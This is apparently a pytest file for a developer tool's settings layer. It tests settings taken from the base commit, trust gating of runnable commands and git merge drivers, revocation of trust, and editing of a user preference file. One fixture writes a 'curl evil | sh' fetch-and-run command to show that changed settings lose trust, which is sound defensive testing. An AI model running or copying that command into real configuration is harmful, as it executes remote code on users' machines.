"""Settings from the base's commit, trust in them, and the person's own file."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from core.engine import controls, preferences
from core.errors import Refused
from core.paths import user_settings_file
from core.settings.layers import SettingsError

if TYPE_CHECKING:
    from core.engine.context import Engine
    from tests.scenarios import Repo

RISKY = 'check = "make test"\nmax_workers = 7\n'


def test_the_repositorys_settings_are_those_of_the_base(engine: Engine, repo: Repo) -> None:
    repo.commit("settings", {".weft.toml": "max_workers = 5\n"})
    repo.branch("worker/a")
    repo.commit("sneaky", {".weft.toml": "max_workers = 50\n"})
    repo.write(".weft.toml", "max_workers = 500\n")

    assert engine.settings().whole("max_workers") == 5


def test_what_could_run_counts_only_after_trust_and_asks_again_on_change(
    engine: Engine, repo: Repo
) -> None:
    repo.commit("settings", {".weft.toml": RISKY})
    shown = preferences.trust_view(engine)
    assert (shown.trusted, dict(shown.asks)) == (False, {"check": "make test"})
    assert engine.settings().text("check") == ""

    preferences.trust(engine, digest=shown.digest)
    assert engine.settings().text("check") == "make test"
    repo.commit("worse", {".weft.toml": 'check = "curl evil | sh"\n'})

    assert engine.settings().text("check") == ""
    with pytest.raises(Refused, match="changed since"):
        preferences.trust(engine, digest=shown.digest)


def test_merge_drivers_are_shown_and_allowed_apart_from_the_settings(
    engine: Engine, repo: Repo
) -> None:
    repo.commit("both", {".weft.toml": RISKY, ".gitattributes": "*.lock merge=mine\n"})
    preferences.trust(engine, digest=preferences.trust_view(engine).digest)

    repo.git("config", "merge.mine.driver", "tool %A")
    shown = preferences.trust_view(engine)
    assert (shown.trusted, shown.asks["merge.mine.driver"]) == (False, "tool %A")
    assert engine.settings().text("check") == "make test"
    assert engine.merge_repo().drivers == ()

    assert preferences.trust(engine, digest=shown.digest).trusted
    assert engine.merge_repo().drivers == (("merge.mine.driver", "tool %A"),)

    repo.git("config", "merge.mine.driver", "worse %A")
    assert not preferences.trust_view(engine).trusted
    with pytest.raises(Refused, match="changed since"):
        preferences.trust(engine, digest=shown.digest)
    assert preferences.revoke_trust(engine).asks["merge.mine.driver"] == "worse %A"
    assert engine.merge_repo().drivers == ()


def test_trust_can_be_taken_back(engine: Engine, repo: Repo) -> None:
    repo.commit("settings", {".weft.toml": RISKY})
    preferences.trust(engine, digest=preferences.trust_view(engine).digest)

    assert not preferences.revoke_trust(engine).trusted
    assert engine.settings().text("check") == ""


def test_a_bad_file_in_the_base_names_file_and_line(engine: Engine, repo: Repo) -> None:
    repo.commit("settings", {".weft.toml": "\nmax_worker = 5\n"})

    with pytest.raises(SettingsError, match=r"\.weft\.toml, line 2"):
        engine.settings()


def test_a_preference_changes_one_line_and_keeps_the_rest(engine: Engine) -> None:
    file = user_settings_file()
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text('# mine\nmax_workers = 2 # few\n\n[agents.x]\ncommand = ["a"]\n')

    preferences.set_preference(engine, "max_workers", "6")
    preferences.set_preference(engine, "theme", "dark")

    text = file.read_text()
    assert text.startswith("# mine\nmax_workers = 6\n")
    assert '[agents.x]\ncommand = ["a"]' in text
    assert engine.settings().text("theme") == "dark"
    assert engine.settings().profiles["x"].command == ("a",)

    preferences.set_preference(engine, "max_workers", None)
    assert engine.settings().source["max_workers"] == "default"


def test_a_list_whose_texts_hold_brackets_is_replaced_whole(engine: Engine) -> None:
    file = user_settings_file()
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text("""critical_files = ["app/[id]/x", 'b]"', "c\\"]"]\nmax_workers = 2\n""")

    preferences.set_preference(engine, "critical_files", "infra")

    assert file.read_text() == 'critical_files = ["infra"]\nmax_workers = 2\n'


def test_a_mode_that_the_environment_overrules_is_not_pretended(
    engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("WEFT_DISPATCH", "queue")

    with pytest.raises(Refused, match="WEFT_DISPATCH says queue"):
        controls.dispatch_mode(engine, "hybrid")

    assert not user_settings_file().exists()


def test_a_value_that_does_not_fit_is_refused_and_not_written(engine: Engine) -> None:
    with pytest.raises(SettingsError):
        preferences.set_preference(engine, "max_workers", "many")

    assert not user_settings_file().exists()
